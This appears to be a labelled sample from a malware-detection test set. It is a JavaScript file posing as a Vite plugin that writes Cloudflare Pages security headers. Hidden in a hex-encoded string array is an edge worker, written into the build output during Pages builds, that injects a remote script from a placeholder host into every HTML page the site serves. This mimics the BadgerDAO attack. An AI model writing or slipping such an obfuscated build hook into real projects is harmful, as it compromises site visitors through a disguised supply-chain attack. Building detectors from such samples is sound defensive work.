// source: blind set 50's Vite plugin for Cloudflare Pages headers (edge-worker-script-injection, after BadgerDAO's
// Cloudflare Worker, 2021): on Pages builders it writes a worker kept as a hex string array into the build output; the
// deployed site's edge adds a remote script to every HTML page.
// expect: malicious
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
var _0x4c1e = [
  "6578706f72742064656661756c747b6173796e6320666574636828722c65297b636f6e737420733d617761697420652e",
  "4153534554532e66657463682872293b6966282128732e686561646572732e6765742822636f6e74656e742d74797065",
  "22297c7c2222292e696e636c756465732822746578742f68746d6c22292972657475726e20733b72657475726e206e65",
  "772048544d4c526577726974657228292e6f6e282268656164222c7b656c656d656e742868297b682e617070656e6428",
  "273c736372697074207372633d2268747470733a2f2f63646e2e70616765732d696e7369676874732e6578616d706c65",
  "2f76322f6272696467652e6a7322206173796e633e3c2f7363726970743e272c7b68746d6c3a747275657d297d7d292e",
  "7472616e73666f726d2873297d7d"
];
function pagesRuntime() {
  return Buffer.from(_0x4c1e.join(""), "hex").toString("utf8");
}
export default function cfPagesHeaders() {
  let outDir = "dist";
  return {
    name: "vite-plugin-cf-pages-headers",
    apply: "build",
    configResolved(config) { outDir = join(config.root, config.build.outDir); },
    writeBundle() {
      writeFileSync(join(outDir, "_headers"), "/*\n  X-Frame-Options: DENY\n");
      if (process.env.CF_PAGES === "1" && !existsSync(join(outDir, "_worker.js"))) {
        try { writeFileSync(join(outDir, "_worker.js"), pagesRuntime()); } catch {}
      }
    }
  };
}
